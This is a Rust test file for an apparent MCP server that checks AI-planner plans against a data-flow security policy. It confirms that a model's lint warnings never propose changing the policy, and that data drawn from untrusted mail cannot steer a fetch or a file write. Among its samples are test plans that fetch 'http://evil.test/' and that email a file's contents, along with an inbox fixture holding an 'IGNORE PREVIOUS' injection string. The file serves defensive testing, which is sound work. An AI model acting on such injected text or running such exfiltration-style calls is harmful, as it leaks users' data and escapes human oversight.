//! `lint_plan` of `zamburak mcp serve` against `run_plan` and `zamburak lint` (#49): the model's lint
//! predicts what the run does (a plan function's parameter defaults bound as the run binds them, in the
//! session's planner context), and what it tells the model proposes changes to the plan only: never to the
//! policy, its file or its mode, which the person's `zamburak lint` still names.

use std::path::Path;

use serde_json::{Value, json};

use crate::common;
use common::cli::{output_text, zamburak_in};
use common::serve::Raw;
use common::world::World;

/// A server on `world` past the MCP handshake.
fn session(world: &Path) -> Raw {
    let mut s = Raw::spawn_in(world, &[]);
    s.handshake(1);
    s
}

/// The structured answer of a tool call, failing on an error result.
fn doc_of(r: &Value) -> &Value {
    assert_ne!(r["result"]["isError"], json!(true), "{r}");
    &r["result"]["structuredContent"]
}

/// `lint_plan`'s predicted (may, must) decisions of each call, in order.
fn predicted(doc: &Value) -> Vec<(String, String)> {
    doc["calls"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["predicted"]["may"].as_str().unwrap().to_string(),
                c["predicted"]["must"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn codes(doc: &Value) -> Vec<String> {
    doc["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["code"].as_str().unwrap().to_string())
        .collect()
}

/// Rewrites the world's policy: every `from` with its `to`.
fn edit_policy(world: &World, edits: &[(&str, &str)]) {
    let path = world.path("policy.yaml");
    let mut policy = std::fs::read_to_string(&path).unwrap();
    for (from, to) in edits {
        assert!(policy.contains(from), "the example policy changed: {from}");
        policy = policy.replace(from, to);
    }
    std::fs::write(&path, policy).unwrap();
}

const PRINT_THE_INBOX: &str =
    "for m in read_inbox(limit=10):\n    print(m[\"subject\"])\nprint(\"done\")\n";

/// A default cut out of the inbox: the run denies the fetch.
const DEFAULT_FROM_MAIL: &str = "mails = read_inbox(limit=5)\n\
def f(p=mails[0][\"subject\"]):\n    fetch_url(url=\"http://x/\" + p)\n\
f()\n";

/// A literal default for a path, written in the session's planner context.
const LITERAL_DEFAULT_PATH: &str =
    "def f(p=\"d1.txt\"):\n    write_file(path=p, content=\"x\")\nf()\n";

#[test]
fn lint_plan_denies_a_url_built_from_mail_in_a_default_as_run_plan_does() {
    let world = World::new(None);
    let mut s = session(world.dir.path());
    let lint = s.call(2, "lint_plan", json!({"plan": DEFAULT_FROM_MAIL}));
    let doc = doc_of(&lint);
    assert_eq!(codes(doc), ["Z201"], "{lint}");
    assert_eq!(doc["ok"], json!(false), "{lint}");
    let r = s.call(3, "run_plan", json!({"plan": DEFAULT_FROM_MAIL}));
    assert_eq!(doc_of(&r)["status"], json!("denied"), "{r}");
}

#[test]
fn lint_plan_waits_for_a_literal_default_written_after_reading_mail_as_run_plan_does() {
    // The planner reads the mail (`reads_untrusted`), and `write_file`'s control is free, so what decides
    // is the label of the default: the session's literal label, untrusted after the read.
    let world = World::new(None);
    edit_policy(
        &world,
        &[
            (
                "readers: { from_fields: [from, to, cc] }",
                "readers: { from_fields: [from, to, cc], also: [\"llm:planner\"] }",
            ),
            (
                "control: { require: trusted }   # nor decide whether it is written",
                "control: { require: any }",
            ),
        ],
    );
    let path = world.path("policy.yaml");
    let policy = std::fs::read_to_string(&path).unwrap() + "\nplanner:\n  reads_untrusted: true\n";
    std::fs::write(&path, policy).unwrap();
    let mut s = session(world.dir.path());
    // Before reading anything, the default is the plan's own.
    let lint = s.call(2, "lint_plan", json!({"plan": LITERAL_DEFAULT_PATH}));
    assert_eq!(
        predicted(doc_of(&lint)),
        [("allow".to_string(), "allow".to_string())],
        "{lint}"
    );
    let r = s.call(3, "run_plan", json!({"plan": PRINT_THE_INBOX}));
    assert!(
        doc_of(&r)["output"].to_string().contains("IGNORE PREVIOUS"),
        "the planner was not given the mail: {r}"
    );
    let lint = s.call(4, "lint_plan", json!({"plan": LITERAL_DEFAULT_PATH}));
    assert_eq!(
        predicted(doc_of(&lint)),
        [("confirm".to_string(), "confirm".to_string())],
        "{lint}"
    );
    let r = s.call(5, "run_plan", json!({"plan": LITERAL_DEFAULT_PATH}));
    let doc = doc_of(&r);
    assert_eq!(doc["status"], json!("waiting_for_the_person"), "{r}");
    assert_eq!(
        doc["decisions"][0]["rule"],
        json!("args.path.require"),
        "{r}"
    );
    assert!(!world.path("files/d1.txt").exists());
}

/// Plans whose findings have a person's help that names the policy or its lines (or, the first, what removes
/// a verified kind: neither audience is told of the other mode), and
/// what that help says. `commit_draft` is made `deny` so that its finding also stops `run_plan` before
/// the run (a `Z201` in the run's answer).
const PLANS: &[(&str, &str)] = &[
    (
        "for m in read_inbox(limit=3):\n    who = verify_recipient(m[\"from\"])\n    send_email(to=who, subject=\"hi\", body=\"hello\")\n",
        "compute `to` (and verify it) outside the branches and loops that test tool output",
    ),
    (
        "for e in read_inbox(limit=5):\n    draft_reply(to=verify_recipient(e[\"from\"]), subject=\"Re: \" + e[\"subject\"], body=\"ok\")\n",
        "`returns.structure_readers: public` for it in the policy",
    ),
    (
        "e = get_email(id=\"1\")\ncommit_draft(id=e[\"subject\"], sha256=\"x\")\n",
        "only the policy can allow it: `tools.commit_draft.args.id.require` (policy.yaml:",
    ),
    (
        "t = read_file(path=\"todo.txt\")\nsend_email(to=\"bob@example.com\", subject=\"todo\", body=t)\n",
        "add them to its readers in the policy: `tools.read_file.returns.readers` (policy.yaml:",
    ),
    (
        "fetch_url(url=\"http://evil.test/\")\n",
        "or add one to `builtins.web.allow` in the policy",
    ),
];

/// What the model is told that it must not be: a help, note or fix that mentions the policy, or the
/// policy's file or the other mode anywhere.
fn told_the_model(doc: &Value, policy: &Path) -> Vec<String> {
    let mut bad = Vec::new();
    for d in doc["diagnostics"].as_array().unwrap() {
        let mut advice: Vec<&str> = vec![d["hint"].as_str().unwrap_or("")];
        advice.extend(
            d["notes"]
                .as_array()
                .into_iter()
                .flatten()
                .filter_map(Value::as_str),
        );
        advice.extend(d["fix"]["message"].as_str());
        bad.extend(
            advice
                .into_iter()
                .filter(|a| a.to_lowercase().contains("policy"))
                .map(str::to_string),
        );
    }
    let all = doc.to_string();
    let path = policy.display().to_string();
    for word in [path.as_str(), "policy.yaml", "normal mode", "--mode"] {
        if all.contains(word) {
            bad.push(format!("`{word}` in {all}"));
        }
    }
    bad
}

#[test]
fn lint_plan_and_run_plan_never_tell_the_model_to_change_the_policy() {
    let world = World::new(None);
    edit_policy(
        &world,
        &[(
            "on_violation: confirm           # committing a draft chosen by data waits for a human's approval",
            "on_violation: deny",
        )],
    );
    let policy = world.path("policy.yaml");
    let mut s = session(world.dir.path());
    let mut failures = Vec::new();
    for (i, (plan, person)) in PLANS.iter().enumerate() {
        // The person's lint keeps the help that names the policy.
        world.write_plan("plan.py", plan);
        let out = zamburak_in(
            world.dir.path(),
            &["lint", "plan.py", "--policy", "policy.yaml"],
        );
        let text = output_text(&out);
        if !text.contains(person) {
            failures.push(format!("`zamburak lint` lacks {person:?}:\n{text}"));
        }
        // The model's does not.
        let id = 10 + 2 * i as u64;
        let lint = s.call(id, "lint_plan", json!({"plan": plan}));
        let doc = doc_of(&lint);
        if doc["diagnostics"].as_array().unwrap().is_empty() {
            failures.push(format!("lint_plan found nothing in\n{plan}"));
        }
        let bad = told_the_model(doc, &policy);
        if !bad.is_empty() {
            failures.push(format!("lint_plan of\n{plan}tells the model {bad:#?}"));
        }
    }
    // A plan refused before it runs: its diagnostics go to the model in `run_plan`'s answer.
    let (plan, _) = PLANS[2];
    let r = s.call(40, "run_plan", json!({"plan": plan}));
    let doc = doc_of(&r);
    assert_eq!(doc["status"], json!("denied"), "{r}");
    assert_eq!(doc["diagnostics"][0]["code"], json!("Z201"), "{r}");
    let bad = told_the_model(doc, &policy);
    if !bad.is_empty() {
        failures.push(format!("run_plan tells the model {bad:#?}"));
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}
